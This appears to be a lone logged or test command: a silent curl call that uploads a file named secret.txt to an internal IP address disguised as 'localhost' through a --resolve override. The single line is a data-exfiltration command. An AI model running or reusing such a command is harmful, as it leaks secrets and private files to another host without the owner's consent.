curl -s -m 3 --resolve localhost:80:10.233.1.2 --data-binary @/srv/rt/s/d1/home/secret.txt http://localhost/U03
